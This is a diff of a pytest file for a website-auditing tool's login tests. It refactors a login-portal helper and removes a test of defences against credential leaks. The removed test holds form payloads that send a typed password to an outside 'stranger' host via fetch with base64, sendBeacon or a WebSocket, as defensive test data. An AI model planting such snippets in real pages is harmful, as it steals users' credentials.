@@ -10,7 +10,7 @@ import json
 import sqlite3
 from collections.abc import Iterator, Mapping
 from pathlib import Path
-from urllib.parse import parse_qs, quote
+from urllib.parse import quote
 
 import pytest
 import zstandard
@@ -18,14 +18,13 @@ import zstandard
 from auditor.audit import Audit, read_audit
 from auditor.redaction import MARKER
 from tests.answering import Answer, AnsweringServer, Asked, Route, page, text
+from tests.behind_a_door import PASSWORD, SESSION, LoginPortal
 from tests.conftest import CommandLine, Ended
 
 pytestmark = pytest.mark.browser
 
-PASSWORD = 'p&ss "word" <22>'  # noqa: S105  of nothing but these tests
 KEY = "key-0123456789-abcdef"
 COOKIE = "crumb_4711_crumb"
-SESSION = "session-8899aabbccdd"
 BASIC = base64.b64encode(f"auditor:{PASSWORD}".encode()).decode()
 
 
@@ -186,48 +185,6 @@ def test_secrets_let_us_in_and_leave_no_trace(auditor: CommandLine, tmp_path: Pa
     assert {each.headers.get("from") for each in other.asked} == {None}
 
 
-class LoginPortal:
-    """A portal behind a login form; a session ends after a number of pages."""
-
-    def __init__(self, *, lasts: int = 1_000) -> None:
-        self.logins: list[dict[str, list[str]]] = []
-        self.left = 0
-        self._lasts = lasts
-        self.inside: dict[str, Route] = {
-            "/account": page(f'Sign out <a href="/echo">Echo</a> <a href="/form.pdf">Form</a> {SESSION}'),
-            "/": page("".join(f'<a href="/{path}">To {path}</a> ' for path in ("account", "a", "b", "c"))),
-            "/a": page("A"), "/b": page("B"), "/c": page("C"), "/plain": page("D"), "/linked": page("E"),
-            "/echo": echo,
-            "/form.pdf": Answer(b"%PDF-1.7", headers={"Content-Type": "application/pdf"}),
-        }  # fmt: skip
-        self.form = (
-            '<form method="post" action="/login"><label>Name <input id="user" name="user"></label>'
-            '<label>Password <input id="password" name="password" type="password"></label>'
-            '<button type="submit">Go</button></form>'
-        )
-
-    def routes(self) -> dict[str, Route]:
-        return {"/login": self.log_in, "/robots.txt": text("")} | dict.fromkeys(self.inside, self.let_in)
-
-    def log_in(self, asked: Asked) -> Answer:
-        if asked.method == "GET":
-            return page(self.form)
-        given = parse_qs(asked.body.decode())
-        self.logins.append(given)
-        if given.get("password") != [PASSWORD]:
-            return page(f"Wrong: {html.escape(given['password'][0])}{self.form}")
-        self.left = self._lasts
-        cookie = f"sid={SESSION}; HttpOnly; Path=/"
-        return Answer(b"", 303, {"Location": "/account", "Set-Cookie": cookie})
-
-    def let_in(self, asked: Asked) -> Answer:
-        if f"sid={SESSION}" not in asked.headers.get("cookie", "") or self.left <= 0:
-            return Answer(b"", 302, {"Location": f"/login?next={asked.path}"})
-        self.left -= 1
-        route = self.inside[asked.path.partition("?")[0]]
-        return route if isinstance(route, Answer) else route(asked)
-
-
 LOGIN = """\
 [login]
 url = "/login"
@@ -242,6 +199,7 @@ steps = [
 @pytest.mark.usefixtures("kept")
 def test_a_login_opens_the_portal_and_leaves_no_trace(auditor: CommandLine, tmp_path: Path) -> None:
     portal = LoginPortal()
+    portal.inside["/echo"] = echo
     with AnsweringServer(portal.routes()) as server:
         ended = audited(auditor, server.url, LOGIN + 'proof_text = "Sign out"\nproof_url = "/account"\n')
     assert ended.code == 0
@@ -265,98 +223,18 @@ def test_a_session_that_ends_is_begun_again(auditor: CommandLine, tmp_path: Path
 
 
 @pytest.mark.usefixtures("kept")
-@pytest.mark.parametrize(
-    ("change", "told"),
-    [
-        pytest.param(
-            {'"env:PORTAL_PASSWORD"': '"env:PORTAL_COOKIE"'},
-            "the login did not lead to an address like '/account'; it ended at {url}login",
-            id="a wrong password",
-        ),
-        pytest.param(
-            {'"button"': '"#nothing"'},
-            "login step 3 (click #nothing): there was no such element within 2 s",
-            id="no such element",
-        ),
-        pytest.param(
-            {'"#user"': '"input"'}, "login step 1 (fill input): it fits 2 elements", id="several elements"
-        ),
-        pytest.param(
-            {'"#user"': '"#password"'},
-            'login step 1 (fill #password): it is a field for a password; use secret = "env:NAME", not text',
-            id="a text for a password",
-        ),
-        pytest.param(
-            {'"/login"': '"/nowhere"'}, "the login page {url}nowhere answered 404", id="no login page"
-        ),
-        pytest.param(
-            {'"/account"': '"/login"'},
-            "the login cannot be proven: an address like '/login' is there before it",
-            id="no proof",
-        ),
-    ],
-)
-def test_a_login_that_fails_says_where(
-    auditor: CommandLine,
-    tmp_path: Path,
-    monkeypatch: pytest.MonkeyPatch,
-    change: dict[str, str],
-    told: str,
+def test_a_login_that_fails_ends_the_audit_before_it_begins(
+    auditor: CommandLine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """It ends the audit before anything is visited; the run can be gone on with."""
+    monkeypatch.setenv("PORTAL_PASSWORD", "another password")
     monkeypatch.setattr("auditor.visit.login.STEP_TIMEOUT_S", 2)
-    settings = LOGIN + 'proof_url = "/account"\n'
-    for before, after in change.items():
-        settings = settings.replace(before, after)
     portal = LoginPortal()
     with AnsweringServer(portal.routes()) as server:
-        ended = audited(auditor, server.url, settings)
-        assert "/a" not in server.paths()
-        assert ended.code == 2
-        assert ended.lines[-1] == f"auditor: {told.format(url=server.url)}"
-    assert traces(tmp_path, ended, PASSWORD, SESSION) == []
-
-
-@pytest.mark.usefixtures("kept")
-@pytest.mark.parametrize(
-    ("form", "is_told"),
-    [
-        pytest.param('method="post" action="{stranger}"', True, id="a form that leads elsewhere"),
-        pytest.param('action="{stranger}"', True, id="a form that writes into the address"),
-        pytest.param(
-            "onsubmit=\"fetch('{stranger}?p=' + btoa(password.value)); return false\"",
-            True,
-            id="a script that tells in base64",
-        ),
-        pytest.param(
-            "onsubmit=\"navigator.sendBeacon('{stranger}', password.value); return false\"",
-            True,
-            id="a beacon",
-        ),
-        pytest.param(
-            "onsubmit=\"new WebSocket('{stranger}'.replace('http', 'ws')); return false\"",
-            False,
-            id="a socket",
-        ),
-    ],
-)
-def test_what_is_typed_is_not_told_to_strangers(
-    auditor: CommandLine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, form: str, *, is_told: bool
-) -> None:
-    monkeypatch.setattr("auditor.visit.login.STEP_TIMEOUT_S", 2)
-    portal = LoginPortal()
-    with AnsweringServer({"/": page()}) as other:
-        stranger = other.url.replace("127.0.0.1", "localhost")
-        written = form.format(stranger=stranger)
-        portal.form = portal.form.replace('method="post" action="/login"', written)
-        assert written in portal.form
-        with AnsweringServer(portal.routes()) as server:
-            ended = audited(auditor, server.url, LOGIN + 'proof_url = "/account"\n', "--allow-private")
-    assert ended.code == 2
-    assert [each.path for each in other.asked] == []
-    told = "auditor: the login page wanted to tell localhost what was typed, and was stopped; "
-    assert ended.lines[-1].startswith(told) is is_told
-    assert traces(tmp_path, ended, PASSWORD, SESSION) == []
+        ended = audited(auditor, server.url, LOGIN + 'proof_url = "/account"\n')
+        assert [each.path for each in server.asked if each.path.startswith("/a")] == []
+        told = f"auditor: the login did not lead to an address like '/account'; it ended at {server.url}login"
+    assert (ended.code, ended.lines[-1]) == (2, told)
+    assert traces(tmp_path, ended, "another password") == []
 
 
 @pytest.mark.usefixtures("kept")
@@ -364,6 +242,7 @@ def test_a_storage_state_lets_us_in(auditor: CommandLine, tmp_path: Path) -> Non
     """It brings a session and what scripts keep; a cookie of a whole domain is sent to the portal alone."""
     portal = LoginPortal()
     portal.left = 1_000
+    portal.inside["/echo"] = echo
     state = {
         "cookies": [
             {"name": "sid", "value": SESSION, "domain": "127.0.0.1", "path": "/", "expires": -1,
